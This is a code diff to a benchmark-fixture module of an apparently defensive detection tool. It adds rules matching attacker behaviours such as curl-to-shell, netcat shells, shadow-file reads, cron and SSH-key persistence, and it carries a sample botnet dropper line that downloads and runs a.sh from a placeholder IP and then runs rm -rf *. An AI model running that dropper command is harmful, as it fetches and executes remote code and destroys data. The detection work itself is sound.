@@ -10,6 +10,8 @@ from decnet.attack import catalog
 from decnet.ttp.store.compile import compile_pack
 
 if TYPE_CHECKING:
+    from collections.abc import Sequence
+
     from decnet.ttp.pack import Pack
 
 _START = r"(?:^|[;&|(`\n])\s*(?:sudo\s+)?(?:/[\w/]*/)?"
@@ -79,6 +81,49 @@ PATTERNS = (
 )
 """One pattern per rule: each names the tools of one behaviour, in command position where that matters."""
 
+EXECS = (
+    r"{program: [wget, curl], args: '[./:]', args_not: '(?:-T|-F|--upload-file|--data)'}",
+    r"{program: [tftp, ftpget, scp, rsync, sftp], args: '\S'}",
+    r"{program: [sh, bash, dash, ash], pipe_from: [wget, curl, base64]}",
+    r"{program: [sh, bash, dash, ash], args_not: '.'}",
+    r"{program: [nc, ncat, netcat], args: '-\w*[ec]\b'}",
+    r"{program: [python, perl, ruby, php], args: '-[cer]\b'}",
+    r"{args: '/etc/passwd\b'}",
+    r"{args: '/etc/g?shadow\b'}",
+    r"{program: find, args: '-perm\s+[-/+]?(?:0?[246]000|u=s|g=s)'}",
+    r"{program: [nmap, masscan, zmap]}",
+    r"{program: [uname, lscpu, nproc, free, df, lspci, hostnamectl, dmidecode]}",
+    r"{args: '/proc/(?:cpuinfo|version|meminfo|mounts)\b'}",
+    r"{program: [whoami, id, w, who, users, last]}",
+    r"{program: [ifconfig, ip, route, arp]}",
+    r"{program: [netstat, ss]}",
+    r"{program: [ps, top, htop, pgrep]}",
+    r"{program: [useradd, adduser]}",
+    r"{program: [passwd, chpasswd]}",
+    r"{program: crontab, args: '^(?:-|/|\S+\.txt)'}",
+    r"{redirect_to: '/etc/cron|/var/spool/cron'}",
+    r"{append_to: 'authorized_keys'}",
+    r"{program: history, args: '-c'}",
+    r"{assigns: '^HISTFILE='}",
+    r"{program: chmod, args: '(?:\+x|\b[0-7]*7[0-7]*\b)'}",
+    r"{program: chattr, args: '-\w*[ia]'}",
+    r"{program: rm, args: '-\w*r\w*\s'}",
+    r"{program: [pkill, killall]}",
+    r"{program: busybox, wrapper: sudo}",
+    r"{path: '^(?:\./|/tmp/|/dev/shm/)'}",
+    r"{redirect_from: '^/dev/(?:tcp|udp)/'}",
+)
+"""What one command shows, as a rule author would ask for it."""
+
+_EXEC_SHAPES = (
+    "{program: WORD}",
+    "{program: [WORD, OTHER], args: '--OTHER'}",
+    "{program: [wget, curl, cat, chmod], args: 'WORD'}",
+    "{args: '/opt/WORD/OTHER'}",
+    "{redirect_to: '/etc/WORD'}",
+    "{program: echo, args: 'WORD', pipe_into: [OTHER]}",
+)
+
 COMMANDS = (
     "uname -a",
     "uname -s -v -n -r -m",
@@ -119,8 +164,8 @@ COMMANDS = (
     ),
     (
         "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.{n}/a.sh; curl -O "
-        "http://203.0.113.{n}/a.sh; chmod 777 a.sh; sh a.sh; tftp 203.0.113.{n} -c get a.sh; chmod 777 a.sh; sh a.sh; tftp "
-        "-r b.sh -g 203.0.113.{n}; chmod 777 b.sh; sh b.sh; rm -rf *"
+        "http://203.0.113.{n}/a.sh; chmod 777 a.sh; sh a.sh; tftp 203.0.113.{n} -c get a.sh; chmod 777 a.sh; sh a.sh; "
+        "tftp -r b.sh -g 203.0.113.{n}; chmod 777 b.sh; sh b.sh; rm -rf *"
     ),
 )
 """Lines as attackers type them; ``{n}`` is a number that differs from event to event."""
@@ -133,7 +178,7 @@ maturity: sandbox
 attack_release: enterprise-19.2
 description: A rule for benchmarks.
 applies_to: [command]
-match: {{pattern: '{pattern}'}}
+match: {match}
 emits: [{{tactic: TA0007, technique_id: T1082, confidence: 0.7}}]
 """
 _SHAPES = (
@@ -159,11 +204,28 @@ def patterns(count: int, seed: int = 11) -> tuple[str, ...]:
 
 def pack(count: int) -> Pack:
     """A pack of that many rules, one pattern each."""
+    return _pack([f"{{pattern: {_quoted(pattern)}}}" for pattern in patterns(count)])
+
+
+def exec_pack(count: int, seed: int = 13) -> Pack:
+    """A pack of that many rules, one ``exec`` each; from the thirty-first on, nothing hits them."""
+    rng = random.Random(seed)
+    grown: dict[str, None] = dict.fromkeys(EXECS[:count])
+    while len(grown) < count:
+        word, other = ("".join(rng.choices(_SYLLABLES, k=rng.randrange(3, 5))) for _ in range(2))
+        grown[rng.choice(_EXEC_SHAPES).replace("WORD", word).replace("OTHER", other)] = None
+    return _pack([f"{{exec: {exec_}}}" for exec_ in grown])
+
+
+def _pack(matches: Sequence[str]) -> Pack:
     files = [
-        (Path(f"R{number:06}.yaml"), _RULE.format(number=number, pattern=pattern.replace("'", "''")))
-        for number, pattern in enumerate(patterns(count))
+        (Path(f"R{number:06}.yaml"), _RULE.format(number=number, match=match)) for number, match in enumerate(matches)
     ]
     return compile_pack(files, catalog.load)
+
+
+def _quoted(text: str) -> str:
+    return "'" + text.replace("'", "''") + "'"
 
 
 def texts(count: int, seed: int = 5) -> list[str]:
